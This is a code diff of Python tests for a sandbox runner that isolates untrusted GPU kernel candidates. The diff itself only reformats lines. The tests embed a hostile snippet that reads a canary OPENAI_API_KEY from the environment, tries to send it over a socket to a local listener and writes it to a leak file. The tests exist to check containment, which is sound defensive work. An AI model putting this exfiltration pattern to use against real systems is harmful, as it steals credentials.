@@ -288,6 +288,7 @@ def test_a_hostile_candidate_is_contained_on_the_gpu_paths(tmp_path, monkeypatch
     scratch directory is refused, the verdict fails, and nothing leaves."""
     import socket
     import threading
+
     from kernel_agent.sanitizer.runner import run_isolated
     canary = "sk-canary-" + os.urandom(8).hex()
     monkeypatch.setenv("OPENAI_API_KEY", canary)
@@ -314,7 +315,8 @@ def test_a_hostile_candidate_is_contained_on_the_gpu_paths(tmp_path, monkeypatch
         "import os as _os, socket as _socket\n"
         "_k = _os.environ.get('OPENAI_API_KEY', 'none')\n"
         "try:\n"
-        f"    _s = _socket.create_connection(('127.0.0.1', {listener.getsockname()[1]}), timeout=2); _s.sendall(_k.encode())\n"
+        f"    _s = _socket.create_connection(('127.0.0.1', {listener.getsockname()[1]}), timeout=2); "
+        "_s.sendall(_k.encode())\n"
         "except Exception:\n    pass\n"
         "try:\n"
         f"    open({str(leak)!r}, 'w').write(_k)\n"
@@ -382,6 +384,7 @@ def test_gated_children_hold_the_gpu_only_once_granted(ceilings):  # cached: the
     alone, and times exactly as an ungated one; a gated GPU check asks once, for a shared lease. A
     benchmark refused the GPU alone never times: it waits until its time limit."""
     import time
+
     from kernel_agent.sanitizer.runner import run_isolated
     asked = []
 
@@ -434,6 +437,7 @@ def test_the_hostile_suites_gpu_escapes_are_rejected_on_the_gpu(tmp_path, monkey
     import socket
     import threading
     import time
+
     from kernel_agent.sanitizer.runner import run_isolated
     canary = "sk-canary-" + os.urandom(8).hex()
     monkeypatch.setenv("OPENAI_API_KEY", canary)
